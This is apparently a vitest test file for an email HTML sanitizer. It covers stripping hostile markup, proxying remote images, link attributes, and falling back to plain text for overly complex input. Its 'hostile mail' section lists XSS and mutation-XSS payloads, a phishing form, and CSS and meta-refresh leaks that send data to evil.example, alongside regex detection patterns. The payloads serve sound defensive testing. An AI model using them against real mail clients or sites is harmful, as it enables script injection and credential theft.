import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type PictureOptions, withPictures } from './mail-pictures.ts'
import { frameCsp, safeHtml } from './safe-html.ts'

const blocked = { images: false, cid: () => null, proxy: (url: string) => `/proxy?url=${encodeURIComponent(url)}` }
const shown = (html: string, options: PictureOptions) => withPictures(safeHtml(html).html, options)
const safe = (html: string) => shown(html, blocked).html

/** What must never stand in the output, whatever went in: outside attribute values, and as one. */
const dangerous =
  /<\s*\/?\s*(script|style|svg|math|iframe|object|embed|form|input|button|meta|link|base|template|noscript|textarea|title|select|video|audio|body|html)\b|<[^>]*\s(on[a-z]+|srcset|formaction|background|srcdoc|xlink:href|action)\s*=/i
const dangerousValue = /^(javascript|vbscript|data:(?!image\/))|url\(|var\(|@import|expression\(|position:/i

function expectHarmless(html: string) {
  expect(html.replace(/="[^"]*"/g, '=""')).not.toMatch(dangerous)
  for (const [, name, value] of html.matchAll(/\s([a-z-]+)="([^"]*)"/g))
    if (name !== 'title' && name !== 'alt') expect(value).not.toMatch(dangerousValue)
}

describe('hostile mail', () => {
  test.each([
    '<script>alert(1)</script>hello',
    '<img src=x onerror=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><a href="/x">x</a>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="color:var(--x)">x</div>',
    '<div style="background:\\75rl(https://evil.example)">x</div>',
    '<style>@import url(https://evil.example/a.css)</style>',
    '<link rel=preconnect href="https://evil.example">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<table background="https://evil.example/a.png"><tr><td>x</table>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><script>alert(1)</script></template>',
    '<<script>script>alert(1)</script>',
    '<img """><script>alert(1)</script>">',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<object data="https://evil.example/x.svg"></object>',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<__proto__ constructor=x>x</__proto__><p constructor="x" __proto__="y">z</p>',
    // Two that cannot stand in one another, once what kept them apart is dropped.
    '<p>a<x-y><p>b</x-y></p>',
  ])('%s', (html) => {
    const out = safe(html)
    expectHarmless(out)
    expect(out).not.toContain('evil.example')
    expect(safe(out)).toBe(out)
    const kept = safeHtml(html).html
    expect(safeHtml(kept).html).toBe(kept)
  })

  test('is stable and harmless for any tag soup', () => {
    const piece = fc.constantFrom(
      '<p>', '</p>', '<div style="color:red;position:fixed">', '</div>', '<svg>', '</svg>', '<math>', '<style>', '</style>', '<table>', '<tr>', '<td>',
      '</table>', '<a href="https://example.com/?a=1&b=2">', '</a>', '<script>', '</script>', '<img src="https://example.com/a.png" onerror=x>', '<b>',
      '<!--', '-->', '<![CDATA[', ']]>', '&lt;script&gt;', '&amp;', '"', "'", '>', '<', 'text', '<title>', '</title>', '<select>', '<option>', '<li>', '<h1>', '<br/>',
      '<img src="cid:a@b">', '<noscript>', '<template>', '<textarea>', '</textarea>', '<x-y>', '</x-y>', '<body style="margin:0">', '<font color="red" face="宋体">',
    ) // prettier-ignore
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 40 }), (pieces) => {
        const out = safe(pieces.join(''))
        expectHarmless(out)
        expect(safe(out)).toBe(out)
        const kept = safeHtml(pieces.join('')).html
        expectHarmless(kept)
        expect(safeHtml(kept).html).toBe(kept)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('ordinary mail', () => {
  test('keeps what gives a mail its look', () => {
    const html =
      '<table width="600" cellpadding="0"><tr><td style="padding:8px 0;font-family:\'微软雅黑\', Arial;color:#333">您好</td></tr></table>'
    expect(safe(html)).toBe(
      '<table width="600" cellpadding="0"><tr><td style="padding:8px 0;font-family:\'微软雅黑\', Arial;color:#333">您好</td></tr></table>',
    )
  })

  test('opens links elsewhere and tells the target nothing', () => {
    expect(safe('<a href="https://example.com/a?b=1&amp;c=2">x</a>')).toBe(
      '<a href="https://example.com/a?b=1&#38;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('leaves remote pictures out, counts them, and shows them through the proxy when asked', () => {
    const html = '<img src="https://example.com/a.png" alt="A"><img src="//example.com/b.png">'
    expect(shown(html, blocked)).toEqual({ html: '<img alt="A"><img>', remoteImages: 2 })
    expect(shown(html, { ...blocked, images: true }).html).toContain('<img alt="A" src="/proxy?url=https%3A%2F%2Fexample.com%2Fa.png">')
  })

  test('shows pictures of the mail itself', () => {
    const cid = (id: string) => (id === 'logo@x' ? '/files/1' : null)
    expect(shown('<img src="cid:logo%40x"><img src="cid:gone">', { ...blocked, cid })).toEqual({
      html: '<img src="/files/1"><img>',
      remoteImages: 0,
    })
  })

  test('shows text that looks like markup as text', () => {
    expect(safe('1 &lt; 2 &amp;&amp; 3 > 2')).toBe('1 &lt; 2 &amp;&amp; 3 &gt; 2')
  })
})

describe('what is too complex is its text alone', () => {
  test.each<[string, string]>([
    ['deep nesting', '<div><b><a>'.repeat(100_000)],
    ['end tags that close nothing', '<svg></x>'.repeat(80_000)],
    ['the same of what is no drawing', '<b></x>'.repeat(100_000)],
    ['items that close their like', `${'<ul><li><table><td>'.repeat(1_000)}words`],
    ['drawings the parser forgets to close', '<div><svg></div>'.repeat(100_000)],
    ['a thousand attributes', `<a ${Array.from({ length: 1_000 }, (_, n) => `a${n}`).join(' ')}>`],
    ['quotes and comments that do not end', '<a title="'.repeat(100_000) + '<!--'.repeat(100_000)],
    ['millions of elements', '<b></b>'.repeat(600_000)],
    ['more characters than a mail has', 'x'.repeat(9_000_000)],
  ])('%s', (_, html) => {
    const { html: out, asText } = safeHtml(`${html}<p>the end`)
    expect(asText).toBe(true)
    expectHarmless(out)
    expect(out).toMatch(/^<pre>[^<>]*<\/pre>$/)
  })

  test.each<[string, string]>([
    ['five megabytes of ordinary markup', '<div><p style="color:#333;margin:0">hello <b>world</b> <a href="https://example.com/">x</a></p></div>'.repeat(52_000)],
    ['lists and cells without end tags', '<table><tr><td><li>a<li>b</table>'.repeat(5_000)],
    ['an answer to an answer, a hundred times', `${'<div><blockquote>'.repeat(100)}hi${'</blockquote></div>'.repeat(100)}`],
  ])('but not %s', (_, html) => expect(safeHtml(html).asText).toBe(false)) // prettier-ignore
})

test('the frame’s policy lets nothing run and nothing out', () => {
  expect(frameCsp).toContain("default-src 'none'")
  expect(frameCsp).not.toContain('script-src')
  expect(frameCsp).not.toMatch(/https?:/)
})
